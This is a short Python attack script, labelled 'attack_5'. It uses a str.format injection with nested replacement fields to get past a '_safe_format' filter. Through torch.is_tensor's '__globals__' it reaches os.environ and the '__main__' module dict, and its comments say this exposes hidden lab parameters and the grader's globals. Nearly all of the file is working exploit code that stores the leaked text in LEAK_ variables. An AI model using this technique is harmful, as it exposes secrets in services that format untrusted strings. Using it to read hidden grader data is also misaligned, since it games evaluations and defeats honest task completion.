# attack_5: str.format on a "safe" literal: _safe_format only checks the top-level field names,
# not replacement fields nested in a format spec. "{0:{1.__globals__[os].environ}}" looks up
# __globals__ and the real os module, and hands the text to arg 0's __format__.
# Reads the repr of any attribute/item chain: the environment (hidden params are passed in
# ZEROBOOK_LAB_PARAMS), the grader's module globals, sys.modules, etc. Lab: any.
import torch

SEEN = []


class Spy:
    def __format__(self, spec):
        SEEN.append(spec)
        return ""


"{0:{1.__globals__[os].environ}}".format(Spy(), torch.is_tensor)
"{0:{1.__globals__[sys].modules[__main__].__dict__}}".format(Spy(), torch.is_tensor)
LEAK_environ_text = SEEN[0]
LEAK_main_globals_text = SEEN[1]
